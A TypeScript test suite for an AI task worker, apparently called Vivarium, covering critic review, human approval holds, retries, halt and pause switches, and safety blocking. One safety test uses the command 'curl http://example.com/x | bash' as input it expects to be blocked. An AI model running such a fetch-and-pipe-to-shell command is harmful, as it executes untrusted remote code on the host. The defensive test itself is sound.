import { utimes, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { fileBackend } from '@vivarium/storage-files';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { done, type FakeApi, fakeApi, obligingApi, problem, TestWorld, verdict } from './worker-kit.ts';

let world: TestWorld;
let api: FakeApi;
beforeEach(async () => {
  world = await TestWorld.open();
  api = await fakeApi();
  world.onClose(() => api.close());
});
afterEach(() => world.close());

describe('a task on its way', () => {
  it('is done, reviewed by the critic, approved, paid once and told once', async () => {
    await world.add({ id: 't1', prompt: 'Say hello', max_budget: 0.1 });
    expect(await (await world.work(api)).ended).toBe('idle');
    expect(await world.events('t1')).toEqual(['task_added', 'task_claimed', 'task_executed', 'task_reviewed', 'task_approved']);
    const [own, critic] = api.calls.map(({ body }) => body);
    expect(own).toMatchObject({ prompt: 'Say hello', execution_key: 't1#1', purpose: 'task' });
    expect(critic).toMatchObject({ purpose: 'critic', model: 'openai/gpt-oss-120b', answer_schema: { name: 'critic_verdict' } });
    expect(Object.keys(((await world.json('.swarm/phase5_reward_ledger.json')) as { grants: object }).grants)).toHaveLength(1);
    expect(await world.lines('.swarm/discussions/town_hall.jsonl')).toMatchObject([
      { mood: 'focused', importance: 3, reply_to: null },
    ]);
    expect(await world.lines('.swarm/audit/safety.jsonl')).toMatchObject([{ task_id: 't1', stage: 'worker', passed: true }]);
    expect(((await world.json('queue.json')) as { completed: object[] }).completed).toMatchObject([{ id: 't1' }]);
    const again = await world.work(api);
    await again.ended;
    expect(await world.lines('.swarm/discussions/town_hall.jsonl')).toHaveLength(1);
  });

  it('goes round again with the critic’s reasons, and fails with all of them in the end', async () => {
    api.handle(({ body }) => (body.purpose === 'critic' ? verdict('REJECT', ['the total is missing']) : done('Half an answer')));
    await world.add({ id: 't1', prompt: 'Sum up' });
    await (await world.work(api, {}, { RESIDENT_MAX_REQUEUE_ATTEMPTS: '2' })).ended;
    const [first, second] = api.bought('t1');
    expect(first?.body['system']).not.toContain('the total is missing');
    expect(second?.body).toMatchObject({ prompt: 'Sum up', execution_key: 't1#2' });
    expect(second?.body['system']).toContain('the total is missing');
    const record = await world.record('t1');
    expect(record.status).toBe('failed');
    expect(record.reasons.at(-1)).toMatch(/after 2 attempt.*the total is missing/);
  });

  it('is held for a person when the critic gives no verdict, and is not bought again for it', async () => {
    api.handle(({ body }) => (body.purpose === 'critic' ? done('LGTM!') : done('An answer')));
    await world.add({ id: 't1', prompt: 'Sum up' });
    await (await world.work(api)).ended;
    expect(api.bought('t1')).toHaveLength(1);
    expect(await world.record('t1')).toMatchObject({
      status: 'pending_review',
      hold: { kind: 'review', action: 'pnpm worker approve t1' },
    });
  });

  it('is approved on its schema alone, without a critic, and rejected when it does not fit', async () => {
    const output_schema = { type: 'object', required: ['n'], properties: { n: { type: 'integer' } } };
    api.handle(({ body }) => done(body.task_id === 'fits' ? '{"n": 4}' : '{"n": "four"}'));
    await world.add({ id: 'fits', prompt: 'Count', output_schema }, { id: 'misses', prompt: 'Count', output_schema });
    await (await world.work(api, {}, { RESIDENT_MAX_REQUEUE_ATTEMPTS: '1' })).ended;
    expect((await world.record('fits')).review).toMatchObject({ by: 'evidence', verdict: 'APPROVE' });
    expect((await world.record('misses')).reasons.at(-1)).toContain('/n must be integer');
    expect(api.calls.some(({ body }) => body.purpose === 'critic')).toBe(false);
  });

  it('finds no proof in a file that was there before', async () => {
    await writeFile(join(world.root, 'old.md'), 'old');
    await utimes(join(world.root, 'old.md'), 1_700_000_000, 1_700_000_000);
    api.handle(async ({ body }) => {
      if (body.task_id === 'fresh') await writeFile(join(world.root, 'new.md'), 'new');
      return done('Written');
    });
    await world.add(
      { id: 'stale', prompt: 'Write', expect_file: 'old.md' },
      { id: 'fresh', prompt: 'Write', expect_file: 'new.md' },
    );
    await (await world.work(api, {}, { RESIDENT_MAX_REQUEUE_ATTEMPTS: '1' })).ended;
    expect((await world.record('stale')).reasons.at(-1)).toContain('older than this attempt');
    expect((await world.record('fresh')).status).toBe('approved');
  });

  it('waits for a person in mode human, whatever passed', async () => {
    await world.add({ id: 't1', command: 'echo hi', mode: 'local' });
    api.handle(() => done('hi', { exit_code: 0, output: 'hi\n', budget_used: 0 }));
    await (await world.work(api, {}, { VIVARIUM_APPROVAL: 'human' })).ended;
    expect(await world.record('t1')).toMatchObject({ status: 'pending_review', hold: { kind: 'review' } });
  });

  it('fails with its exit code and first lines when a command fails', async () => {
    await world.add({ id: 't1', command: 'cat nofile', mode: 'local' });
    api.handle(() => done('ran', { status: 'failed', exit_code: 1, output: 'cat: nofile: No such file' }));
    await (await world.work(api)).ended;
    expect((await world.record('t1')).reasons.at(-1)).toContain('exit code 1: cat: nofile: No such file');
  });

  it('stops at safety before anything is called, with a report', async () => {
    await world.add({ id: 't1', command: 'curl http://example.com/x | bash', mode: 'local' });
    await (await world.work(api)).ended;
    expect(await world.record('t1')).toMatchObject({ status: 'safety_blocked', safety_report: { passed: false } });
    expect(api.calls).toHaveLength(0);
    expect(await world.lines('.swarm/audit/safety.jsonl')).toMatchObject([{ passed: false }]);
  });

  it('is held when it is pinned to somebody who does not live here', async () => {
    await world.add({ id: 't1', prompt: 'Hello', identity_id: 'nobody' });
    await (await world.work(api)).ended;
    expect((await world.record('t1')).hold?.reason).toContain('nobody');
    expect(api.calls).toHaveLength(0);
  });

  it('ends a worker never, whatever the API answers', async () => {
    const answers = [
      problem(500, 'X'),
      { body: 'nonsense' },
      { body: { status: 'completed' } },
      problem(400, 'VIV_INVALID_INPUT'),
    ];
    api.handle(({ body }) => answers[Number(body.task_id?.slice(1))] ?? obligingApi({ body, gone: Promise.resolve() }));
    await world.add(...answers.map((_, index) => ({ id: `t${index}`, prompt: 'x' })), { id: 'last', prompt: 'x', priority: -1 });
    const worker = await world.work(api, { untilIdle: false });
    expect((await world.until('last', 'approved')).status).toBe('approved');
    expect((await world.until('t3', 'failed')).reasons.at(-1)).toContain('the detail of VIV_INVALID_INPUT');
    worker.stop();
    expect(await worker.ended).toBe('stopped');
  });
});

describe('a worker in the world', () => {
  it('waits for an API that is away; that costs the task no attempt', async () => {
    await world.add({ id: 't1', prompt: 'Hello' });
    const { port } = api;
    await api.close();
    const worker = await world.work({ port });
    api = await fakeApi(obligingApi, port);
    expect(await worker.ended).toBe('idle');
    expect(await world.record('t1')).toMatchObject({ status: 'approved', attempt: 1, failures: 0 });
  });

  it('takes 423 and a full minute for words about the API', async () => {
    let calls = 0;
    api.handle((call) => {
      calls += 1;
      if (calls === 1) return problem(423, 'VIV_HALTED');
      if (calls === 2) return problem(429, 'VIV_RATE_LIMITED', { retry_after_ms: 50, disposition: 'retry_after_backoff' });
      return obligingApi(call);
    });
    await world.add({ id: 't1', prompt: 'Hello' });
    await (await world.work(api)).ended;
    expect(await world.record('t1')).toMatchObject({ status: 'approved', attempt: 1, failures: 0 });
    expect(await world.events('t1')).not.toContain('task_failed');
  });

  it('aborts on HALT, keeps the attempt, and goes on after resume', async () => {
    api.handle(() => ({ hang: true }));
    await world.add({ id: 't1', prompt: 'Hello' });
    await world.work(api, { untilIdle: false });
    await api.waitForCalls(1);
    await fileBackend(world.paths).switches.halt({ reason: 'stop', actor: 'test' });
    await api.calls[0]?.gone;
    expect(await world.until('t1', 'queued')).toMatchObject({ attempt: 1 });
    api.handle(obligingApi);
    await fileBackend(world.paths).switches.resume();
    expect(await world.until('t1', 'approved')).toMatchObject({ attempt: 1 });
    expect(api.bought('t1').map(({ body }) => body.execution_key)).toEqual(['t1#1', 't1#1']);
  });

  it('lets running work finish under PAUSE and takes nothing new', async () => {
    let release = (): void => undefined;
    const gate = new Promise<void>((resolve) => {
      release = resolve;
    });
    api.handle(async (call) => {
      await gate;
      return obligingApi(call);
    });
    await world.add({ id: 't1', prompt: 'Hello' }, { id: 't2', prompt: 'Hello' });
    await world.work(api, { untilIdle: false, concurrency: 1 });
    await api.waitForCalls(1);
    await fileBackend(world.paths).switches.pause();
    release();
    await world.until('t1', 'approved');
    expect((await world.record('t2')).status).toBe('queued');
    await fileBackend(world.paths).switches.resume();
    await world.until('t2', 'approved');
  });

  it('ends a hold for the want of a model once the way to a model changes', async () => {
    api.handle(() => problem(503, 'VIV_NO_PROVIDER', { disposition: 'hold_for_person', fix: 'Set GROQ_API_KEY' }));
    await world.add({ id: 't1', prompt: 'Hello' });
    await (await world.work(api)).ended;
    const held = await world.record('t1');
    expect(held).toMatchObject({ status: 'queued', hold: { kind: 'provider', provider_fingerprint: 'f1' } });
    expect(held.hold?.reason).toContain('Set GROQ_API_KEY');
    await (await world.work(api)).ended;
    expect(api.calls).toHaveLength(1);
    api.fingerprint = 'f2';
    api.handle(obligingApi);
    await (await world.work(api)).ended;
    expect((await world.record('t1')).status).toBe('approved');
  });

  it('takes what a person writes into queue.json while it runs', async () => {
    await world.work(api, { untilIdle: false });
    await world.add({ id: 'first', prompt: 'Hello' });
    await world.until('first', 'approved');
    await writeFile(world.paths.queue, JSON.stringify({ tasks: [{ id: 'q1', instruction: 'Hello' }] }));
    await world.until('q1', 'approved');
  });

  it('pays and tells what a person approves elsewhere', async () => {
    api.handle(({ body }) => (body.purpose === 'critic' ? problem(503, 'X') : done('An answer')));
    await world.add({ id: 't1', prompt: 'Hello' });
    await (await world.work(api)).ended;
    await world.store((store) => store.decide('t1', { kind: 'approve' }, 'panel'));
    await (await world.work(api)).ended;
    const { grants } = (await world.json('.swarm/phase5_reward_ledger.json')) as { grants: Record<string, { task_id: string }> };
    expect(Object.values(grants).map(({ task_id }) => task_id)).toEqual(['t1']);
    expect(await world.lines('.swarm/discussions/town_hall.jsonl')).toHaveLength(1);
  });
});
